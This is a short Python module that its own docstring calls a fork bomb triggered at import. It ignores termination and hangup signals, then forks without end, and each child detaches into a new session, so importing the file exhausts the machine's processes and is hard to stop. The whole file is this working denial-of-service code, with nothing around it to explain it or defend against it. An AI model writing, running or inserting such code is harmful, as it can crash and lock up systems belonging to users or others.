"""A fork bomb at import: every process forks without end, in sessions of its own, ignoring
the signals that ask it to stop."""
import os
import signal

for sig in (signal.SIGHUP, signal.SIGTERM, signal.SIGINT, signal.SIGCHLD):
    signal.signal(sig, signal.SIG_IGN)
while True:
    try:
        if os.fork() == 0:
            os.setsid()
    except OSError:
        pass
